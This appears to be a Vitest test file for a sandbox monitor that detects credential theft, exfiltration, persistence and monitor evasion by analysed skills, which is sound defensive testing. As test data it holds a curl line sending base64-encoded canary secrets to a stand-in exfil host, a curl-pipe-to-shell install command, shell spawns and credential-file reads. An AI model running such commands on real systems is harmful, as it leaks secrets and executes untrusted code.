import { describe, expect, it } from "vitest";
import { analyse } from "../../../src/stages/behavior/analyse.js";
import { encodedForms, findCanaries, makeCanaries, type Canary } from "../../../src/stages/behavior/canaries.js";
import { toFindings } from "../../../src/stages/behavior/findings.js";
import type { AnalysisContext, CommandObservation } from "../../../src/stages/behavior/observe.types.js";
import type { TraceEvent } from "../../../src/stages/behavior/trace.types.js";

const SECRET: Canary = { label: "AWS_SECRET_ACCESS_KEY", value: "SKILLSIGN_CANARY_UNIT_AWS_0001", kind: "secret" };
const CTX: AnalysisContext = {
  canaries: [SECRET],
  bait: [{ guestPath: "/home/skill/.aws/credentials", label: ".aws/credentials", routine: false }],
  guestWork: "/work",
  guestHome: "/home/skill",
  memoryMb: 256,
  declared: { network: [], bins: [], env: [], paths: [] },
};

function run(events: TraceEvent[], extra: Partial<CommandObservation> = {}): CommandObservation {
  return {
    planned: { source: "script-no-args", command: "python3 scripts/x.py", origin: "scripts/x.py" },
    end: { kind: "exited", exitCode: 0, oomKilled: false },
    stdout: "",
    stderr: "",
    events,
    forkFailures: 0,
    diskExceeded: false,
    changedFiles: [],
    timeoutMs: 10_000,
    ...extra,
  };
}

const ids = (runs: CommandObservation[], ctx = CTX) => [...new Set(toFindings(analyse(runs, ctx)).map((f) => f.ruleId))].sort();

describe("analyse", () => {
  it("treats a quiet run as clean", () => {
    expect(ids([run([{ kind: "open", pid: 2, comm: "python3", path: "/work/scripts/__pycache__/x.pyc", flags: "O_WRONLY|O_CREAT", write: true, ok: true }])])).toEqual([]);
  });

  it("rates undeclared network high and declared network low, by destination", () => {
    const e: TraceEvent = { kind: "connect", pid: 2, comm: "python3", syscall: "connect", family: "AF_INET", addr: "127.0.0.1", port: 9, ok: false };
    expect(toFindings(analyse([run([e])], CTX))[0]).toMatchObject({ ruleId: "behavior.network-attempt", severity: "high" });
    // Declaring some host does not excuse a connection elsewhere (issue 16); the declared address does.
    const other = { ...CTX, declared: { ...CTX.declared, network: ["api.example.invalid"] } };
    expect(toFindings(analyse([run([e])], other))[0]).toMatchObject({ severity: "high" });
    const declared = { ...CTX, declared: { ...CTX.declared, network: ["127.0.0.1"] } };
    expect(toFindings(analyse([run([e])], declared))[0]).toMatchObject({ severity: "low" });
  });

  it("ignores unix sockets (nscd) but reports DNS lookups", () => {
    const nscd: TraceEvent = { kind: "connect", pid: 2, comm: "python3", syscall: "connect", family: "AF_UNIX", addr: "/var/run/nscd/socket", ok: false };
    const dns: TraceEvent = { kind: "connect", pid: 2, comm: "python3", syscall: "connect", family: "AF_INET", addr: "127.0.0.1", port: 53, ok: true };
    const f = toFindings(analyse([run([nscd, dns])], CTX));
    expect(f).toHaveLength(1);
    expect(f[0]!.message).toContain("DNS");
  });

  it("reports a canary read and a canary sent over a socket, never showing the value", () => {
    const f = toFindings(
      analyse([run([
        { kind: "open", pid: 2, comm: "python3", path: "/home/skill/.aws/credentials", flags: "O_RDONLY", write: false, ok: true },
        { kind: "send", pid: 2, comm: "python3", syscall: "sendmsg", target: "socket:[2]", data: `key=\\n${SECRET.value}` },
      ])], CTX),
      encodedForms(SECRET.value),
    );
    expect(f.map((x) => x.ruleId).sort()).toEqual(["behavior.canary-exfil", "behavior.canary-read"]);
    expect(f.find((x) => x.ruleId === "behavior.canary-exfil")).toMatchObject({ severity: "critical", confidence: "high" });
    expect(JSON.stringify(f)).not.toContain(SECRET.value);
  });

  it("sees a canary that was base64-encoded before it left", () => {
    const b64 = Buffer.from(`x${SECRET.value}y`).toString("base64");
    const e: TraceEvent = { kind: "exec", pid: 3, comm: "python3", path: "/usr/bin/curl", argv: ["curl", "-d", b64, "http://c.exfil.invalid"], ok: true };
    expect(ids([run([e])])).toEqual(["behavior.canary-exfil", "behavior.undeclared-exec"]);
  });

  it("does not flag the declared binaries, and flags a shell spawned from Python", () => {
    const git: TraceEvent = { kind: "exec", pid: 3, comm: "python3", path: "/usr/bin/git", argv: ["git", "status"], ok: true };
    expect(ids([run([git])], { ...CTX, declared: { ...CTX.declared, bins: ["git"] } })).toEqual([]);
    const sh: TraceEvent = { kind: "exec", pid: 3, comm: "python3", path: "/usr/bin/sh", argv: ["sh", "-c", "id"], ok: true };
    expect(toFindings(analyse([run([sh])], CTX))[0]).toMatchObject({ ruleId: "behavior.undeclared-exec", severity: "high" });
    const fromShell: TraceEvent = { ...sh, comm: "sh" };
    expect(ids([run([fromShell])])).toEqual([]);
  });

  it("flags a network tool even when SKILL.md's own command names it, unless it is declared", () => {
    const planned = { source: "skill-md" as const, command: "curl -fsSL https://get.example.invalid/i.sh | sh", origin: "SKILL.md:9" };
    const curl: TraceEvent = { kind: "exec", pid: 3, comm: "sh", path: "/usr/bin/curl", argv: ["curl", "-fsSL", "https://get.example.invalid/i.sh"], ok: false };
    const f = toFindings(analyse([run([curl], { planned })], CTX));
    expect(f).toMatchObject([{ ruleId: "behavior.undeclared-exec", severity: "high", file: "SKILL.md", line: 9 }]);
    expect(ids([run([curl], { planned })], { ...CTX, declared: { ...CTX.declared, bins: ["curl"] } })).toEqual([]);
  });

  it("separates persistence from other writes outside the work dir", () => {
    const bashrc: TraceEvent = { kind: "open", pid: 2, comm: "sh", path: "/home/skill/.bashrc", flags: "O_WRONLY|O_APPEND|O_CREAT", write: true, ok: true };
    const etc: TraceEvent = { kind: "open", pid: 2, comm: "sh", path: "/etc/hosts", flags: "O_WRONLY", write: true, ok: false };
    const tmp: TraceEvent = { kind: "open", pid: 2, comm: "sh", path: "/tmp/x", flags: "O_WRONLY|O_CREAT", write: true, ok: true };
    expect(ids([run([bashrc, etc, tmp])])).toEqual(["behavior.persistence", "behavior.write-outside-workdir"]);
  });

  it("reports a secret printed to stdout as a read (for review), not as exfiltration", () => {
    const f = toFindings(analyse([run([], { stdout: `AWS_SECRET_ACCESS_KEY=${SECRET.value}\n` })], CTX), [SECRET.value]);
    expect(f.map((x) => x.ruleId)).toEqual(["behavior.canary-read"]);
    expect(f[0]!.message).toContain("stdout");
    expect(f[0]!.evidence).not.toContain(SECRET.value);
  });

  it("counts a read-write open of a credential file as a read and as a write", () => {
    const e: TraceEvent = { kind: "open", pid: 2, comm: "python3", path: "/home/skill/.aws/credentials", flags: "O_RDWR", write: true, ok: true };
    expect(ids([run([e])])).toEqual(["behavior.canary-read", "behavior.write-outside-workdir"]);
  });

  it("reports resource limits: fork bomb, memory, timeout", () => {
    expect(ids([run([], { forkFailures: 50 })])).toEqual(["behavior.resource-limit"]);
    expect(ids([run([], { forkFailures: 2 })])).toEqual([]);
    expect(ids([run([], { end: { kind: "exited", exitCode: 137, oomKilled: true } })])).toEqual(["behavior.resource-limit"]);
    expect(ids([run([], { end: { kind: "timeout" } })])).toEqual(["behavior.resource-limit"]);
  });

  it("de-duplicates the same behaviour across commands and says how often it was seen", () => {
    const e: TraceEvent = { kind: "open", pid: 2, comm: "python3", path: "/home/skill/.aws/credentials", flags: "O_RDONLY", write: false, ok: true };
    const second = run([e], { planned: { source: "script-help", command: "python3 scripts/x.py --help", origin: "scripts/x.py" } });
    const f = toFindings(analyse([run([e]), second], CTX));
    expect(f).toHaveLength(1);
    expect(f[0]!.message).toContain("seen in 2 commands");
  });
});

describe("judging programs and attacks on the monitor", () => {
  it("judges an exec by the binary execve loaded and its caller's binary, not argv[0] or the process name", () => {
    const sh: TraceEvent = { kind: "exec", pid: 3, comm: "bash", path: "/bin/sh", argv: ["ls", "-c", "id"], ok: true, caller: "/usr/bin/python3" };
    const f = toFindings(analyse([run([sh])], CTX));
    expect(f.map((x) => [x.ruleId, x.severity])).toEqual([["behavior.undeclared-exec", "high"]]);
    expect(f[0]!.message).toContain('a shell from code: sh (argv[0] says "ls")');
  });

  it("names attacks on the monitor", () => {
    const ev: TraceEvent = { kind: "evasion", pid: 2, comm: "a\nb", what: "process-name", detail: "process name" };
    const flood: TraceEvent = { kind: "evasion", pid: 2, comm: "python3", what: "flood", detail: "25000 connects" };
    expect(toFindings(analyse([run([ev, flood])], CTX)).map((x) => [x.ruleId, x.severity])).toEqual([
      ["behavior.monitor-evasion", "high"],
      ["behavior.monitor-evasion", "medium"],
    ]);
  });
});

describe("canaries", () => {
  it("are unique per run and redactable", () => {
    const a = makeCanaries();
    const b = makeCanaries();
    const values = a.canaries.map((c) => c.value);
    expect(new Set(values).size).toBe(values.length);
    expect(values.some((v) => b.canaries.some((c) => c.value === v))).toBe(false);
  });

  it("look like real credentials and carry no marker a skill could grep for", () => {
    const a = makeCanaries();
    const text = JSON.stringify(a);
    expect(text).not.toMatch(/canary|skillsign|fake|not.a.real/i);
    const v = Object.fromEntries(a.canaries.map((c) => [c.label, c.value]));
    expect(v.AWS_ACCESS_KEY_ID).toMatch(/^AKIA[A-Z2-7]{16}$/);
    expect(v.AWS_SECRET_ACCESS_KEY).toMatch(/^[A-Za-z0-9+/]{40}$/);
    expect(v.GITHUB_TOKEN).toMatch(/^ghp_[A-Za-z0-9]{36}$/);
    expect(v.OPENAI_API_KEY).toMatch(/^sk-proj-[\w-]{64}T3BlbkFJ[\w-]{64}$/);
    expect(v.ANTHROPIC_API_KEY).toMatch(/^sk-ant-api03-[\w-]{93}AA$/);
    expect(v.NPM_TOKEN).toMatch(/^npm_[A-Za-z0-9]{36}$/);
    const pem = a.files.find((f) => f.relPath === ".ssh/id_rsa")!.content;
    expect(pem).toMatch(/^-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ/);
    expect(pem).toContain(v["~/.ssh/id_rsa"]);
  });

  it("are found in hex and reversed form, and not in unrelated text", () => {
    expect(findCanaries(Buffer.from(SECRET.value).toString("hex"), [SECRET])).toHaveLength(1);
    expect(findCanaries([...SECRET.value].reverse().join(""), [SECRET])).toHaveLength(1);
    expect(findCanaries("SKILLSIGN_CANARY_OTHER", [SECRET])).toHaveLength(0);
  });
});
